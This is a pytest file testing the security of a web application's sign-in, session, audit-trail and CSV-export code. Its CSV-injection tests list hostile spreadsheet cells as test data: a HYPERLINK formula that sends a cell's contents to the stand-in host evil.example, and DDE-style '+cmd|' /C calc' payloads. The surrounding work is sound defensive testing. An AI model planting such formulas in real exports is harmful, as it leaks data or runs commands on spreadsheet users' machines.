"""Security of the browser-facing side (issue 10, items 2, 3, 7, 9), on SQLite and PostgreSQL: who may get in
without an account, server-side sessions and their revocation, sign-in throttling, the password rule, what the
audit trail records of failed sign-ins and CLI runs, and CSV exports a spreadsheet cannot turn into formulas."""

from __future__ import annotations

import csv
import getpass
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import select
from typer.testing import CliRunner

from cadx.cli import app
from cadx.csvsafe import frame_csv_bytes, neutralise_cell, write_rows_csv
from cadx.errors import CadxInputError
from cadx.workflows import accounts
from cadx.workflows.accounts import (
    SignInThrottled,
    access_mode,
    add_user,
    audit_events,
    authenticate,
    bootstrap_admin_from_env,
    cli_actor,
    create_first_admin,
    end_session,
    export_audit_csv,
    is_loopback,
    logout_all,
    record_audit,
    session_account,
    set_disabled,
    set_password,
    set_role,
    start_session,
)
from db.models import AuditEvent, AuthSession, SignInAttempt, User

PASSWORD = "correct horse battery"
REPO = Path(__file__).resolve().parents[1]
T0 = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)


# ------------------------------------------------------------------------------------------- item 2: exposure ---
@pytest.mark.parametrize("address, loopback", [
    (None, False), ("", False), ("0.0.0.0", False), ("::", False), ("192.168.1.20", False), ("10.0.0.1", False),
    ("cadx.example.org", False), ("127.0.0.1", True), ("127.0.1.1", True), ("localhost", True), ("::1", True),
    ("[::1]", True),
])
def test_only_loopback_addresses_count_as_local(address, loopback):
    assert is_loopback(address) is loopback


def test_no_login_only_while_the_server_is_on_loopback(workspace, monkeypatch):
    monkeypatch.delenv("CADX_AUTH", raising=False)
    assert access_mode(workspace, server_address="127.0.0.1") == "open"
    for exposed in (None, "0.0.0.0", "192.168.1.20"):  # before: "open" (admin for anyone reaching the port)
        assert access_mode(workspace, server_address=exposed) == "setup"
    monkeypatch.setenv("CADX_AUTH", "required")
    assert access_mode(workspace, server_address="127.0.0.1") == "setup"
    monkeypatch.setenv("CADX_AUTH", "off")
    assert access_mode(workspace, server_address="localhost") == "open"
    with pytest.raises(CadxInputError, match="anyone who can reach the port would be admin"):
        access_mode(workspace, server_address="0.0.0.0")
    monkeypatch.setenv("CADX_AUTH", "auto")
    add_user(workspace, "alice", PASSWORD, role="admin", by="setup")
    assert access_mode(workspace, server_address="0.0.0.0") == "sign_in"
    assert access_mode(workspace, server_address="127.0.0.1") == "sign_in"


def test_the_first_admin_needs_the_one_time_token(workspace, capfd):
    accounts._forget_setup_token()
    token = accounts.setup_token()
    assert token in capfd.readouterr().err  # printed in the server log
    with pytest.raises(CadxInputError, match="wrong one-time setup token"):
        create_first_admin(workspace, "alice", PASSWORD, token="guess", client="203.0.113.5", now=T0)
    with workspace.sessions() as session:
        assert session.scalar(select(User.id)) is None
    user = create_first_admin(workspace, "alice", PASSWORD, token=token, client="203.0.113.5", now=T0)
    assert user.role == "admin"
    with pytest.raises(CadxInputError, match="wrong one-time setup token|exists already"):
        create_first_admin(workspace, "mallory", PASSWORD, token=token, client="203.0.113.5", now=T0)
    assert [u.username for u in accounts.list_users(workspace)] == ["alice"]
    assert [e.action for e in audit_events(workspace)] == ["setup_failed", "user_add", "setup_failed"]


def test_guessing_the_setup_token_is_throttled(workspace):
    accounts._forget_setup_token()
    for _ in range(3):
        with pytest.raises(CadxInputError, match="wrong"):
            create_first_admin(workspace, "alice", PASSWORD, token="guess", now=T0)
    with pytest.raises(SignInThrottled):
        create_first_admin(workspace, "alice", PASSWORD, token=accounts.setup_token(), now=T0)
    assert create_first_admin(workspace, "alice", PASSWORD, token=accounts.setup_token(),
                              now=T0 + timedelta(seconds=2)).username == "alice"


def test_admin_password_file(workspace, tmp_path, monkeypatch):
    secret = tmp_path / "admin.txt"
    monkeypatch.setenv("CADX_ADMIN_PASSWORD_FILE", str(secret))
    with pytest.raises(CadxInputError, match="CADX_ADMIN_PASSWORD_FILE.*cannot read"):
        bootstrap_admin_from_env(workspace)
    secret.write_text("short\n")
    with pytest.raises(CadxInputError, match="CADX_ADMIN_PASSWORD_FILE.*shorter than 10"):
        bootstrap_admin_from_env(workspace)
    secret.write_text(PASSWORD + "\n")
    assert bootstrap_admin_from_env(workspace) == "admin"
    assert bootstrap_admin_from_env(workspace) is None  # only while no account exists
    assert authenticate(workspace, "admin", PASSWORD).role == "admin"


def test_docker_image_and_demo_script_are_safe_by_default():
    dockerfile = (REPO / "Dockerfile").read_text()
    assert "CADX_ADMIN_PASSWORD_FILE" in dockerfile and "serve.py" in dockerfile
    assert "CADX_AUTH=off" not in dockerfile
    app_sh = (REPO / "scripts" / "app.sh").read_text()
    # the one-command demo stays sign-in free because it listens on loopback only
    default = re.search(r'--server\.address "\$\{CADX_ADDRESS:-([^}]*)\}"', app_sh).group(1)
    assert is_loopback(default)


# ------------------------------------------------------------------------------------------- item 3: sessions ---
def test_sessions_are_random_hashed_expiring_and_revocable(workspace):
    add_user(workspace, "rex", PASSWORD, role="reviewer", by="setup")
    token = start_session(workspace, "rex", hours=8, now=T0)
    with workspace.sessions() as session:
        stored = session.scalar(select(AuthSession.token_sha256))
    assert len(token) >= 40 and token not in stored and len(stored) == 64
    assert session_account(workspace, token, now=T0 + timedelta(hours=7)) == accounts.Account("rex", "reviewer")
    assert session_account(workspace, token, now=T0 + timedelta(hours=8, seconds=1)) is None  # expired
    assert session_account(workspace, token[:-1] + "x", now=T0) is None
    set_role(workspace, "rex", "viewer", by="admin")  # demotion: at once, at the next page run
    assert session_account(workspace, token, now=T0).role == "viewer"

    set_password(workspace, "rex", "another long secret", by="admin")
    assert session_account(workspace, token, now=T0) is None
    token = start_session(workspace, "rex", now=T0)
    set_disabled(workspace, "rex", True, by="admin")
    assert session_account(workspace, token, now=T0) is None
    assert authenticate(workspace, "rex", "another long secret") is None
    set_disabled(workspace, "rex", False, by="admin")
    assert session_account(workspace, token, now=T0) is None  # enabling does not revive old sessions
    token = start_session(workspace, "rex", now=T0)
    assert logout_all(workspace, "rex", by="admin") == 1
    assert session_account(workspace, token, now=T0) is None
    token = start_session(workspace, "rex", now=T0)
    end_session(workspace, token)
    assert session_account(workspace, token, now=T0) is None
    actions = [e.action for e in audit_events(workspace)]
    assert {"user_passwd", "user_disable", "user_enable", "logout_all"} <= set(actions)


def test_removing_an_account_ends_its_sessions(workspace):
    add_user(workspace, "rex", PASSWORD, role="reviewer", by="setup")
    token = start_session(workspace, "rex")
    with workspace.sessions.begin() as session:
        session.delete(session.scalar(select(User).where(User.username == "rex")))
    assert session_account(workspace, token) is None


def test_user_disable_enable_and_logout_all_commands(tmp_path):
    runner = CliRunner()
    data = str(tmp_path / "data")
    assert runner.invoke(app, ["user", "add", "carol", "--password-stdin", "--data-dir", data],
                         input=PASSWORD + "\n").exit_code == 0
    from cadx.workflows import open_workspace

    token = start_session(open_workspace(tmp_path / "data"), "carol")
    result = runner.invoke(app, ["user", "disable", "carol", "--data-dir", data])
    assert result.exit_code == 0 and "disabled" in result.output
    assert runner.invoke(app, ["user", "list", "--data-dir", data]).output.split() == ["carol", "reviewer",
                                                                                      "(disabled)"]
    assert session_account(open_workspace(tmp_path / "data"), token) is None
    assert runner.invoke(app, ["user", "enable", "carol", "--data-dir", data]).exit_code == 0
    token = start_session(open_workspace(tmp_path / "data"), "carol")
    result = runner.invoke(app, ["user", "logout-all", "--data-dir", data])
    assert result.exit_code == 0 and "1 session(s) ended" in result.output
    result = runner.invoke(app, ["user", "disable", "nobody", "--data-dir", data])
    assert result.exit_code == 2 and "no user 'nobody'" in result.output


def test_the_session_cookie_route_sets_an_httponly_samesite_cookie():
    """serve.py's route trades a one-time code for the cookie; a code works once, an unknown one never."""
    import asyncio

    from starlette.requests import Request

    import serve

    def call(method: str, body: bytes, scheme: str = "http", headers=()):
        scope = {"type": "http", "method": method, "path": serve.SESSION_ROUTE, "headers": list(headers),
                 "query_string": b"", "scheme": scheme, "server": ("testserver", 80), "client": ("127.0.0.1", 1)}
        sent = iter([{"type": "http.request", "body": body, "more_body": False}])

        async def receive():
            return next(sent)

        return asyncio.run(serve.session_cookie(Request(scope, receive)))

    code = accounts.issue_cookie_handoff("the-session-token")
    response = call("POST", code.encode(), headers=[(b"x-forwarded-proto", b"https")])
    cookie = response.headers["set-cookie"]
    assert response.status_code == 204
    assert cookie.startswith("cadx_session=the-session-token;")
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie and "Secure" in cookie and "Path=/" in cookie
    assert call("POST", code.encode()).status_code == 403  # one-time
    assert call("POST", b"made-up").status_code == 403
    cleared = call("DELETE", b"").headers["set-cookie"]
    assert cleared.startswith('cadx_session="";') and "Max-Age=0" in cleared


# ------------------------------------------------------------------------------- item 7 and 9: sign-in audit ---
def test_a_password_typed_as_user_name_never_reaches_the_audit_trail(workspace, tmp_path):
    add_user(workspace, "alice", PASSWORD, role="admin", by="setup")
    typed_as_name = "Tr0ub4dor&3-my-real-password"
    assert authenticate(workspace, typed_as_name, "anything at all", client="198.51.100.7") is None
    assert authenticate(workspace, "alice", "wrong password!", client="198.51.100.7") is None
    assert authenticate(workspace, "alice", PASSWORD, client="198.51.100.7").username == "alice"
    events = audit_events(workspace)[1:]
    assert [(e.user == "alice", e.action) for e in events] == [(False, "login_failed"), (True, "login_failed"),
                                                               (True, "login")]
    assert re.fullmatch(r"unknown-[0-9a-f]{32}", events[0].user)
    # the same unknown name maps to the same keyed hash (failures can be counted), not reversible without the key
    authenticate(workspace, typed_as_name, "again")
    assert audit_events(workspace)[-1].user == events[0].user
    export_audit_csv(workspace, tmp_path / "audit.csv")
    with workspace.sessions() as session:
        stored = [str(v) for row in session.execute(select(AuditEvent.user, AuditEvent.target, AuditEvent.detail,
                                                           )).all() for v in row]
        stored += [str(v) for row in session.execute(select(SignInAttempt.account, SignInAttempt.client)).all()
                   for v in row]
    for text in stored + [(tmp_path / "audit.csv").read_text()]:
        assert "Tr0ub4dor" not in text and "198.51.100.7" not in text


def test_failed_sign_ins_are_throttled_per_account_with_a_growing_delay(workspace):
    add_user(workspace, "alice", PASSWORD, role="admin", by="setup")
    for i in range(3):  # three free failures
        assert authenticate(workspace, "alice", "wrong password!", now=T0 + timedelta(seconds=i / 10)) is None
    with pytest.raises(SignInThrottled) as info:  # even the right password waits
        authenticate(workspace, "alice", PASSWORD, now=T0 + timedelta(seconds=0.5))
    assert 0 < info.value.wait_s <= 1
    assert authenticate(workspace, "alice", "wrong password!", now=T0 + timedelta(seconds=2)) is None  # 4th
    with pytest.raises(SignInThrottled) as info:
        authenticate(workspace, "alice", PASSWORD, now=T0 + timedelta(seconds=3))
    assert 0.5 < info.value.wait_s <= 2  # the delay doubled
    assert authenticate(workspace, "alice", PASSWORD, now=T0 + timedelta(seconds=4.5)).username == "alice"
    # a success resets the count
    assert authenticate(workspace, "alice", "wrong password!", now=T0 + timedelta(seconds=5)) is None
    assert authenticate(workspace, "alice", PASSWORD, now=T0 + timedelta(seconds=5.1)) is not None
    throttled = [e for e in audit_events(workspace) if e.action == "login_throttled"]
    assert len(throttled) == 2 and all(e.user == "alice" for e in throttled)


def test_failed_sign_ins_are_throttled_per_client(workspace):
    add_user(workspace, "alice", PASSWORD, role="admin", by="setup")
    for i in range(10):  # a password spray: one try for each of ten names, from one client
        authenticate(workspace, f"user{i}", "Summer2026!!", client="203.0.113.9", now=T0)
    with pytest.raises(SignInThrottled):
        authenticate(workspace, "alice", PASSWORD, client="203.0.113.9", now=T0)
    assert authenticate(workspace, "alice", PASSWORD, client="192.0.2.1", now=T0) is not None  # another client


@pytest.mark.parametrize("password, message", [
    ("short", "shorter than 10"), (" " * 12, "only blanks"), ("\t" * 10 + "\n", "only blanks"),
    ("x" * 1025, "longer than 1024"), ("Alice.Smith", "the same as the user name"),
])
def test_the_password_rule(workspace, password, message):
    with pytest.raises(CadxInputError, match=message):
        add_user(workspace, "alice.smith", password, role="viewer", by="setup")
    add_user(workspace, "bob", PASSWORD, role="viewer", by="setup")
    with pytest.raises(CadxInputError, match=message.replace("the same as the user name", "shorter|blanks|longer|"
                                                                                           "same")):
        set_password(workspace, "bob", password if message != "the same as the user name" else "bob", by="x")


def test_cli_user_is_recorded_with_the_os_account(tmp_path):
    os_user = getpass.getuser()
    assert cli_actor(None) == os_user
    assert cli_actor(os_user) == os_user
    assert cli_actor("alice") == f"alice (os user {os_user})"
    runner = CliRunner()
    data = str(tmp_path / "data")
    result = runner.invoke(app, ["user", "add", "carol", "--password-stdin", "--user", "alice", "--data-dir", data],
                           input=PASSWORD + "\n")
    assert result.exit_code == 0, result.output
    runner.invoke(app, ["user", "role", "carol", "viewer", "--data-dir", data])
    from cadx.workflows import open_workspace

    users = [e.user for e in audit_events(open_workspace(tmp_path / "data"))]
    assert users == [f"alice (os user {os_user})", os_user]


# ------------------------------------------------------------------------------------ item 7: CSV injection ---
@pytest.mark.parametrize("cell, safe", [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("-0.25", "-0.25"), ("+1e-3", "+1e-3"), ("mdb005#2", "mdb005#2"), ("", ""), (-0.25, -0.25), (None, None),
])
def test_formula_leading_cells_are_neutralised(cell, safe):
    assert neutralise_cell(cell) == safe


def test_audit_export_neutralises_user_text(workspace, tmp_path):
    with workspace.sessions.begin() as session:
        record_audit(session, user='=HYPERLINK("http://evil.example","x")', action="exclude", target="@roi 1",
                     detail={"note": "=1+1"})
    export_audit_csv(workspace, tmp_path / "audit.csv")
    row = next(csv.DictReader((tmp_path / "audit.csv").open()))
    assert row["user"] == '\'=HYPERLINK("http://evil.example","x")' and row["target"] == "'@roi 1"
    assert row["id"] == "1" and row["detail"].startswith("{")


def test_frames_keep_numbers_and_neutralise_text():
    frame = pd.DataFrame({"lesion_key": ["=1+1", "L1"], "p1": [-0.5, 0.25], "delta": ["-0.125", "-1+1"]})
    lines = frame_csv_bytes(frame).decode().splitlines()
    assert lines == ["lesion_key,p1,delta", "'=1+1,-0.5,-0.125", "L1,0.25,'-1+1"]
    import io

    sink = io.StringIO()
    assert write_rows_csv(sink, ["a"], [["=x"], [3]]) == 2
    assert sink.getvalue() == "a\r\n'=x\r\n3\r\n"


def test_every_csv_export_goes_through_the_one_helper():
    """No CSV is written in cadx/ or pages/ other than through cadx.csvsafe (one helper, used everywhere)."""
    offenders = []
    for path in [*REPO.glob("cadx/**/*.py"), *REPO.glob("pages/*.py"), REPO / "app.py"]:
        if path.name == "csvsafe.py":
            continue
        for number, line in enumerate(path.read_text().splitlines(), 1):
            if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", line):
                offenders.append(f"{path.relative_to(REPO)}:{number}: {line.strip()}")
    assert not offenders, offenders
